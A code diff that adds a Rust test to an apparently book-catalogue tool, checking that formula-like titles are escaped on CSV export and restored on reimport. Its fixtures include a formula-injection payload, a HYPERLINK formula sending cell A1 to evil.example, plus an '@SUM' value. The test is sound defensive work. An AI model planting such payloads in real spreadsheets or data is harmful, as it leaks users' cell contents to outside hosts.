@@ -103,6 +103,31 @@ async fn what_was_exported_can_be_imported_elsewhere() {
     );
 }
 
+/// A librarian's title acts in no operator's spreadsheet.
+#[tokio::test]
+async fn a_formula_is_text_in_csv_and_itself_again_when_it_is_imported() {
+    let operator = Operator::new().await;
+    let books = [
+        r#"{"id":1,"title":"=HYPERLINK(\"https://evil.example/\"&A1,\"x\")","author":"@SUM(1+1)"}"#,
+        r#"{"id":2,"title":"-30-","author":"'tis"}"#,
+        r#"{"id":3,"title":"'=quoted","author":"Jane Austen"}"#,
+    ];
+    let ndjson = format!("{}\n", books.join("\n"));
+    operator.write("books.ndjson", &ndjson);
+    operator.does(&["import", "books.ndjson"]);
+    assert_eq!(operator.does(&["export"]), ndjson);
+    let csv = operator.does(&["export", "--format", "csv"]);
+    assert_eq!(
+        csv,
+        "id,title,author\n1,\"'=HYPERLINK(\"\"https://evil.example/\"\"&A1,\"\"x\"\")\",'@SUM(1+1)\n\
+         2,'-30-,'tis\n3,''=quoted,Jane Austen\n"
+    );
+    let other = Operator::new().await;
+    other.write("books.csv", &csv);
+    other.does(&["import", "books.csv"]);
+    assert_eq!(other.does(&["export"]), ndjson);
+}
+
 #[tokio::test]
 async fn every_bad_row_is_told_and_then_nothing_is_imported() {
     let operator = Operator::new().await;
